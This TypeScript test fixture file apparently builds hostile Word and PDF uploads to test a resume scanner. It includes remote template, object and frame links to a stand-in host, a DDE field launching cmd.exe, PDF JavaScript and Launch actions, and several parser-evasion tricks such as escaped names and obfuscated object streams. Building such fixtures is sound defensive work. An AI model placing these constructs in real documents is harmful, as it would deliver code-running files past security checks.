/** Documents that run code, load other files or carry them. */
import { buildObjectStream, buildPdf, buildPdfStream } from '../fixtures/pdf-builder.ts';
import { buildDocxResume, type UploadFile } from '../fixtures/resume-factory.ts';

const relationTypes = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const buildDocx = (content: string, name = 'word/_rels/document.xml.rels') => buildDocxResume('cv.docx', [{ name, content }]);
const buildRelation = (type: string, target: string, mode = '') =>
  buildDocx(
    `<Relationships><Relationship Id="a" Type="${type.includes(':') ? type : `${relationTypes}/${type}`}" Target="${target}"${mode}/></Relationships>`,
  );
const external = ' TargetMode="External"';

export const buildActiveWordDocuments = (): Record<string, UploadFile> => ({
  'a remote template': buildRelation('attachedTemplate', 'https://evil.example/a.dotm', external),
  'a remote object': buildRelation('oleObject', 'https://evil.example/a', external),
  'a remote picture': buildRelation('image', 'https://evil.example/a.png', external),
  'a remote frame': buildRelation('frame', '\\\\evil.example\\a.htm', external),
  'an imported chunk': buildRelation('aFChunk', 'chunk.mht'),
  'an embedded object': buildRelation('oleObject', 'embeddings/oleObject1.bin'),
  'an ActiveX control': buildRelation('control', 'activeX/activeX1.xml'),
  'a ribbon': buildRelation('http://schemas.microsoft.com/office/2007/relationships/ui/extensibility', 'customUI/customUI14.xml'),
  'a DDE field': buildDocx(
    '<w:hdr xmlns:w="urn:w"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:hdr>',
    'word/header1.xml',
  ),
});

const pages = '<< /Type /Pages /Kids [] /Count 0 >>';
const catalog = (entry: string) => `<< /Type /Catalog /Pages 2 0 R ${entry} >>`;
const withCatalog = (entry: string, ...objects: (string | Buffer)[]) => buildPdf([catalog(entry), pages, ...objects]);
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const launch = '<< /S /Launch /Win << /F (cmd.exe) >> >>';

export function buildActivePdfs(): Record<string, UploadFile> {
  const inObjectStream = (object: string, options = {}) =>
    withCatalog('/OpenAction 9 0 R', buildObjectStream({ 8: '<< /A 1 >>', 9: object }, options));
  const hidden = Buffer.from(`7 0 obj ${launch} endobj`);
  const cases: Record<string, Buffer> = {
    'a script at opening': withCatalog(`/OpenAction ${script}`),
    'a script in the names': withCatalog(`/Names << /JavaScript << /Names [(a) 3 0 R] >> >>`, script),
    'a program at opening': withCatalog(`/OpenAction ${launch}`),
    'embedded files': withCatalog('/Names << /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >>', '<< /Type /Filespec >>'),
    'an attachment of a page': withCatalog('', '<< /Type /Annot /Subtype /FileAttachment /FS << /EF << /F 4 0 R >> >> >>'),
    'a rendition with a script': withCatalog('', '<< /S /Rendition /JS (app.alert\\(1\\)) >>'),
    'a name with escapes': withCatalog(`/OpenAction << /S /J#61va#53cript /J#53 (1) >>`),
    'a name with all characters escaped': withCatalog(`/OpenAction << /S /#4c#61#75#6E#63#68 /F (a) >>`),
    'a comment between the words of the object': Buffer.from(
      withCatalog('', script).toString('latin1').replace('3 0 obj', '3 %a\n0%b\nobj'),
      'latin1',
    ),
    'an object stream': inObjectStream(script),
    'an object stream without type': inObjectStream(launch, { dictionary: '' }),
    'an object stream without compression': inObjectStream(launch, { compressed: false }),
    'an object stream with escapes': inObjectStream('<< /S /#4aavaScript /JS (1) >>'),
    'an object stream with an open string before the object': withCatalog('', buildObjectStream({ 8: '(open', 9: launch })),
    'an object stream with another filter': withCatalog(
      '',
      Buffer.from(
        buildObjectStream({ 9: launch })
          .toString('latin1')
          .replace('/Filter /FlateDecode', '/Filter [/ASCIIHexDecode /FlateDecode]'),
        'latin1',
      ),
    ),
    'an object stream with a predictor': withCatalog(
      '',
      buildObjectStream({ 9: '<< /A 1 >>' }, { dictionary: '/Type /ObjStm /DecodeParms << /Predictor 12 /Columns 4 >>' }),
    ),
    'an object stream that cannot be unpacked': withCatalog(
      '',
      '<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 4 >>\nstream\nabcd\nendstream',
    ),
    'an object stream that starts at its first byte': withCatalog(
      '',
      buildPdfStream(Buffer.from(`9 4 ${launch}`, 'latin1'), '/Type /ObjStm /N 1 /First 0'),
    ),
    'an object stream whose start is a reference': withCatalog(
      '',
      buildPdfStream(`9 0 ${launch}`, '/Type /ObjStm /N 1 /First 4 0 R'),
      '4',
    ),
    'an object within a stream': withCatalog('', buildPdfStream(hidden, '', { compressed: false })),
    'an open string before the object': buildPdf([catalog('/OpenAction 3 0 R'), pages, launch], { prefix: '(\n' }),
    'a catalog in the trailer': buildPdf([catalog(''), pages], { trailer: `/Root << /Pages 2 0 R /OpenAction ${launch} >>` }),
    'mismatched brackets': withCatalog(`/X [ >> /OpenAction ${launch} ]`),
  };
  return Object.fromEntries(Object.entries(cases).map(([what, bytes]) => [what, { name: 'cv.pdf', bytes }]));
}
